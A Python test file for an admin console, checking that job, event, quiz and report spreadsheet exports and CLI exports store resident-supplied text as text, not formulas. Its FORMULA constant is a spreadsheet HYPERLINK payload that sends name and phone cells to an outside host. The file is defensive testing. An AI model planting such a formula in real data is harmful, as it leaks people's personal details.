"""The console under attack (issue 19, part B): each attack through HTTP to the console, asserting the refusal
and that nothing changed. Formula injection, upload roles, sessions, logins, sizes, headers, audited GETs."""
from __future__ import annotations

import io
import time

import pytest
from openpyxl import load_workbook

from domain.events import Events
from domain.jobs import Jobs
from domain.profiles import BRANCHES, Profiles
from domain.quiz import Quiz
from tests.test_jobs import posting
from tests.test_volunteer import make_event

FORMULA = '=HYPERLINK("http://x.cn/?"&B2&C2,"简历")'


def _cells(data: bytes):
    """Every cell of every sheet of an xlsx, as openpyxl opens it."""
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text_not_formula(data: bytes, text: str = FORMULA):
    cells = _cells(data)
    planted = [c for c in cells if c.value == text]
    assert planted, "the planted text did not reach the export"
    assert all(c.data_type == "s" for c in planted), [(c.coordinate, c.data_type) for c in planted]
    assert not any(c.data_type == "f" for c in cells)


# -- item 3: no export cell is ever a formula -----------------------------------------------------------
def test_a_residents_note_is_text_in_the_employers_list(console_as, bot, wechat):
    p = Jobs(bot.redis).save(posting("a", "货车司机"))
    Profiles(bot.redis).save_contact("o_alice", "张小明", "13800138000")
    wechat.send(f"投递 {p.number}")
    wechat.send(FORMULA)
    assert Jobs(bot.redis).interested(p.id)[0][3] == FORMULA
    resp = console_as("jobs").client.get(f"/admin/jobs/{p.number}/export.xlsx")
    _assert_text_not_formula(resp.data)


def test_names_and_titles_are_text_in_event_and_quiz_downloads(console, bot):
    from tests.test_quiz import make_session

    events = Events(bot.redis)
    occ = make_event(events)
    Profiles(bot.redis).save_contact("o_a", FORMULA, "13800138000")
    events.sign_up(occ, "o_a")
    _assert_text_not_formula(console.client.get(f"/admin/events/{occ.number}/export.xlsx").data)
    quiz = Quiz(bot.redis)
    s = make_session(quiz)
    quiz.record_completed("o_a", s, ["B", "ABD", "T"], s.opens + 60)
    _assert_text_not_formula(console.client.get(f"/admin/quizzes/{s.id}/export.xlsx").data)
    profiles = Profiles(bot.redis)
    profiles.save_contact("o_b", FORMULA, "13800138001")
    bot.redis.hset(BRANCHES, "b1", FORMULA)
    profiles.set_branch("o_b", "b1")
    _assert_text_not_formula(console.client.get(f"/admin/quizzes/{s.id}/not-done.xlsx").data)


def test_posting_and_event_titles_are_text_in_the_report_workbook(console, bot):
    events = Events(bot.redis)
    occ = make_event(events, starts_in=-3600, hours=0.5)
    events.save(occ.__class__(**{**occ.__dict__, "title": FORMULA}))
    Jobs(bot.redis).save(posting("a", FORMULA))
    resp = console.client.get("/admin/report/figures.xlsx")
    assert resp.status_code == 200
    _assert_text_not_formula(resp.data)


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_the_cli_exports_write_formulas_as_text(bot, cli, tmp_path, wechat, suffix):
    p = Jobs(bot.redis).save(posting("a", "货车司机"))
    Profiles(bot.redis).save_contact("o_alice", "张小明", "13800138000")
    wechat.send(f"投递 {p.number}")
    wechat.send(FORMULA)
    out = tmp_path / f"p.{suffix}"
    cli("jobs", "export", str(p.number), "--out", str(out))
    if suffix == "xlsx":
        _assert_text_not_formula(out.read_bytes())
    else:
        import csv

        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
        assert "'" + FORMULA in rows[1] and FORMULA not in rows[1]
